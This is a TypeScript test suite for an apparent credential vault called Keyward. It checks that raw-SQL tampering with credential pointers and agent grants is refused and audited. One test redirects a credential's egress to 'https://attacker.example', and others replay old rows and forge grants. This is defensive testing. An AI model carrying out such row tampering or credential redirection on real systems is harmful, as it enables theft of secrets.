import { randomBytes } from "node:crypto";
import { afterEach, describe, expect, it } from "vitest";
import { type Place, placeEngines } from "../../test-support/database-places.js";
import { startEgressUpstream } from "../../test-support/egress/upstreams.js";
import { TEST_MASTER_KEY, type TestServer } from "../../test-support/server.js";
import { createAgentsStore } from "../agents/agents-store.js";
import { systemClock } from "../clock.js";
import { openIntegrity } from "../crypto/integrity-root.js";
import { createKeyring } from "../crypto/keyring.js";
import type { Db, SqlValue } from "../store/db.js";
import { migrate } from "../store/migrations.js";
import { valueAad } from "./credentials-store.js";

/** The columns of a credentials row that point at its current value, MAC included. */
type PointerRow = Record<"current_version" | "latest_version" | "pointer_mac" | "change_seq", SqlValue>;

/**
 * Issue 18, finding 5: database write access alone must not change which credential value is
 * served, nor grant one. Rows are edited with raw SQL while Keyward is stopped (a fresh process
 * has nothing cached: what it serves is what the rows say), then Keyward is asked as an agent.
 */

const engines = placeEngines("credential integrity");

const OLD = "old-secret-value-0123456789";
const NEW = "new-secret-value-0123456789";

async function readAs(kw: TestServer, key: string) {
  const res = await fetch(`${kw.url}/v1/credentials`, { headers: { authorization: `Bearer ${key}` } });
  const text = await res.text();
  return { status: res.status, text, body: JSON.parse(text) };
}

async function egress(kw: TestServer, key: string, path: string) {
  const res = await fetch(`${kw.url}/egress/${path}`, { headers: { authorization: `Bearer ${key}` } });
  const text = await res.text();
  return { status: res.status, text, body: text.startsWith("{") ? JSON.parse(text) : text };
}

/** Audit records are written off the request path: ask until they are there, within a bound. */
async function auditOf(kw: TestServer, action: string, atLeast = 1) {
  for (let i = 0; ; i++) {
    const r = await kw.admin("GET", `/audit?action=${action}`);
    if (r.body.events.length >= atLeast || i >= 40) return r;
    await new Promise((done) => setTimeout(done, 50));
  }
}

async function newAgentKey(kw: TestServer, agent: string, create = true): Promise<string> {
  if (create)
    expect((await kw.admin("POST", "/agents", { name: agent, upstream: "http://127.0.0.1:9" })).status).toBe(201);
  const key = await kw.admin("POST", "/keys", { owner: `agent:${agent}`, scopes: [] });
  expect(key.status).toBe(201);
  return key.body.secret as string;
}

const put = async (kw: TestServer, name: string, value: string, egressTo = "http://127.0.0.1:9") =>
  expect(
    (await kw.admin("PUT", `/credentials/${name}`, { value, egress: { base_url: egressTo } })).status,
  ).toBeLessThan(300);

describe.each(engines)("credential pointers and grants against database access alone on $name", ({ skip, place }) => {
  let p: Place;
  let kw: TestServer | undefined;
  afterEach(async () => {
    await kw?.close();
    kw = undefined;
    await p?.cleanup();
  });
  const restart = async (fn: (db: Db) => Promise<void>, env?: Record<string, string>) => {
    await kw?.close();
    await p.sql(fn);
    kw = await p.start(env);
    return kw;
  };

  it.skipIf(skip)("a pointer moved back is refused: 503, no value anywhere, audited once", async () => {
    p = place();
    kw = await p.start();
    const key = await newAgentKey(kw, "bot");
    await put(kw, "api", OLD);
    await put(kw, "api", NEW);
    expect((await kw.admin("PUT", "/agents/bot/grants", { credentials: [{ name: "api", mode: "read" }] })).status).toBe(
      200,
    );
    expect((await readAs(kw, key)).body.credentials.api).toEqual({ value: NEW, version: 2 });

    const tampered = await restart(async (db) => {
      await db.exec("UPDATE credentials SET current_version = 1 WHERE name = 'api'");
    });
    for (let i = 0; i < 3; i++) {
      const read = await readAs(tampered, key);
      expect(read.status).toBe(200); // the agent's other credentials stay available
      expect(read.body.credentials).toEqual({});
      expect(read.body.unavailable.api).toMatchObject({ code: "credential_unavailable" });
      const out = await egress(tampered, key, "api/x");
      expect(out.status).toBe(503);
      expect(out.body.error.code).toBe("credential_unavailable");
      for (const text of [read.text, out.text]) {
        expect(text).not.toContain(OLD);
        expect(text).not.toContain(NEW);
      }
    }
    const audit = await auditOf(tampered, "credential.tamper_detected");
    // Rate-limited: the first refusal is recorded, repeats within the interval are not.
    expect(audit.body.events).toHaveLength(1);
    expect(audit.body.events[0]).toMatchObject({ target: "credential:api", outcome: "denied" });
    expect(JSON.stringify(audit.body)).not.toContain(OLD);

    // An admin setting the credential again repairs it.
    await put(tampered, "api", "third-value-0123456789");
    expect((await readAs(tampered, key)).body.credentials.api).toEqual({ value: "third-value-0123456789", version: 3 });
  });

  it.skipIf(skip)("an earlier genuine row put back, or an egress host changed, is refused", async () => {
    p = place();
    kw = await p.start();
    const key = await newAgentKey(kw, "bot");
    await put(kw, "api", OLD);
    await put(kw, "mail", NEW);
    let snapshot: PointerRow | undefined;
    await restart(async (db) => {
      snapshot = (await db.query<PointerRow>("SELECT * FROM credentials WHERE name = 'api'"))[0];
    });
    await put(kw as TestServer, "api", NEW);
    await (kw as TestServer).admin("PUT", "/agents/bot/grants", {
      credentials: [
        { name: "api", mode: "read" },
        { name: "mail", mode: "inject" },
      ],
    });
    const tampered = await restart(async (db) => {
      // The whole row as Keyward wrote it at version 1, MAC included: a replay, not a forgery.
      await db.exec(
        "UPDATE credentials SET current_version = $1, latest_version = $2, pointer_mac = $3, change_seq = $4 WHERE name = 'api'",
        [snapshot!.current_version, snapshot!.latest_version, snapshot!.pointer_mac, snapshot!.change_seq],
      );
      await db.exec(
        `UPDATE credentials SET egress = '{"base_url":"https://attacker.example","header":"Authorization","format":"Bearer {value}"}' WHERE name = 'mail'`,
      );
    });
    const read = await readAs(tampered, key);
    expect(read.body.credentials).toEqual({});
    expect(read.body.unavailable.api.code).toBe("credential_unavailable");
    const out = await egress(tampered, key, "mail/x");
    expect(out.status).toBe(503);
    expect(out.text).not.toContain(NEW);
    const audit = await auditOf(tampered, "credential.tamper_detected", 2);
    expect(audit.body.events.map((e: { target: string }) => e.target).sort()).toEqual([
      "credential:api",
      "credential:mail",
    ]);
  });

  it.skipIf(skip)("grant rows inserted or edited with SQL are not honoured", async () => {
    p = place();
    kw = await p.start();
    const key = await newAgentKey(kw, "bot");
    await newAgentKey(kw, "peer");
    await put(kw, "api", OLD);
    await put(kw, "db", NEW);
    await kw.admin("PUT", "/agents/bot/grants", { credentials: [{ name: "api", mode: "inject" }] });
    const tampered = await restart(async (db) => {
      await db.exec("UPDATE agent_grants SET mode = 'read' WHERE agent = 'bot' AND name = 'api'");
      const insert =
        "INSERT INTO agent_grants (agent, kind, name, mode, change_seq, mac) VALUES ($1, $2, $3, $4, 99, $5)";
      await db.exec(insert, ["bot", "credential", "db", "read", "0".repeat(64)]);
      await db.exec(insert, ["bot", "may_call", "peer", "granted", null]);
      await db.exec(insert, ["bot", "user_credential", "github", "granted", null]);
    });
    const read = await readAs(tampered, key);
    expect(read.body.credentials).toEqual({});
    expect(read.text).not.toContain(OLD);
    expect(read.text).not.toContain(NEW);
    // The edited grant is absent, not downgraded back to inject.
    const out = await egress(tampered, key, "api/x");
    expect(out.status).toBe(403);
    expect(out.body.error.code).toBe("credential_not_granted");
    expect((await egress(tampered, key, "db/x")).status).toBe(403);
    const grants = await tampered.admin("GET", "/agents/bot/grants");
    expect(grants.body).toMatchObject({ credentials: [], user_credentials: [], may_call: [] });
    const audit = await auditOf(tampered, "grant.tamper_detected", 4);
    expect(audit.body.events.length).toBeGreaterThanOrEqual(4);

    // Setting the grants again through Keyward rewrites every row, MAC included.
    await tampered.admin("PUT", "/agents/bot/grants", {
      credentials: [{ name: "db", mode: "read" }],
      may_call: ["peer"],
    });
    expect((await readAs(tampered, key)).body.credentials.db).toEqual({ value: NEW, version: 1 });
    expect((await tampered.admin("GET", "/agents/bot/grants")).body.may_call).toEqual(["peer"]);
  });

  it.skipIf(skip)(
    "upgrade from migration 7: credentials and grants written before keep working, across a master-key rotation",
    async () => {
      p = place();
      const up = await startEgressUpstream();
      try {
        const master = Buffer.from(TEST_MASTER_KEY, "base64");
        await p.sql(async (db) => {
          // What the previous version left: schema 7, its integrity root, rows without MACs.
          await migrate(db, { through: 7 });
          await openIntegrity({ db, keyring: createKeyring({ active: master }), clock: systemClock });
          const keyring = createKeyring({ active: master });
          for (const name of ["bot", "peer"]) {
            await createAgentsStore(db).insert(db, {
              name,
              upstream: "http://127.0.0.1:9",
              description: null,
              created_at: 1,
              updated_at: 1,
            });
          }
          const egressJson = JSON.stringify({ base_url: up.url, header: "Authorization", format: "Bearer {value}" });
          for (const [name, value] of [
            ["api", OLD],
            ["inj", NEW],
          ] as const) {
            await db.exec(
              `INSERT INTO credentials (name, type, current_version, latest_version, egress, provider, provider_secret,
                 config_seq, status, status_message, status_at, refresh_lease_until, change_seq, created_at, updated_at, deleted_at)
               VALUES ($1, 'static', 1, 1, $2, NULL, NULL, 1, 'ok', NULL, NULL, NULL, 1, 1, 1, NULL)`,
              [name, egressJson],
            );
            await db.exec(
              `INSERT INTO credential_versions (name, version, value_enc, source, rolled_back_from, expires_at, created_at, created_by)
               VALUES ($1, 1, $2, 'set', NULL, NULL, 1, 'admin:old')`,
              [name, keyring.seal(Buffer.from(value), valueAad(name, 1))],
            );
          }
          const grant = "INSERT INTO agent_grants (agent, kind, name, mode, change_seq) VALUES ($1, $2, $3, $4, 1)";
          await db.exec(grant, ["bot", "credential", "api", "read"]);
          await db.exec(grant, ["bot", "credential", "inj", "inject"]);
          await db.exec(grant, ["bot", "user_credential", "github", "granted"]);
          await db.exec(grant, ["bot", "may_call", "peer", "granted"]);
        });
        kw = await p.start();
        const key = await newAgentKey(kw, "bot", false);
        const check = async (server: TestServer) => {
          expect((await readAs(server, key)).body.credentials).toEqual({ api: { value: OLD, version: 1 } });
          expect((await egress(server, key, "inj/x")).status).toBe(200);
          expect(up.seen.at(-1)?.headers.authorization).toBe(`Bearer ${NEW}`);
          expect((await server.admin("GET", "/agents/bot/grants")).body).toMatchObject({
            credentials: [
              { name: "api", mode: "read" },
              { name: "inj", mode: "inject" },
            ],
            user_credentials: ["github"],
            may_call: ["peer"],
          });
        };
        await check(kw);

        // Master-key rotation: the root is re-wrapped, the MAC keys stay; only the new key is loaded after.
        const next = randomBytes(32).toString("base64");
        await kw.close();
        kw = await p.start({ KEYWARD_MASTER_KEY: next, KEYWARD_MASTER_KEY_PREVIOUS: TEST_MASTER_KEY });
        expect((await kw.admin("POST", "/master-key/rotate")).status).toBe(200);
        await check(kw);
        await restart(
          async (db) => {
            // A grant planted after the upgrade, and the upgrade marker deleted so it would run again.
            await db.exec(
              "INSERT INTO agent_grants (agent, kind, name, mode, change_seq) VALUES ('peer', 'credential', 'api', 'read', 5)",
            );
            await db.exec("DELETE FROM meta WHERE key = 'credential_macs_v1'");
          },
          { KEYWARD_MASTER_KEY: next },
        );
        await check(kw as TestServer);
        const peerKey = await newAgentKey(kw as TestServer, "peer", false);
        expect((await readAs(kw as TestServer, peerKey)).body.credentials).toEqual({});
      } finally {
        await up.close();
      }
    },
  );
});
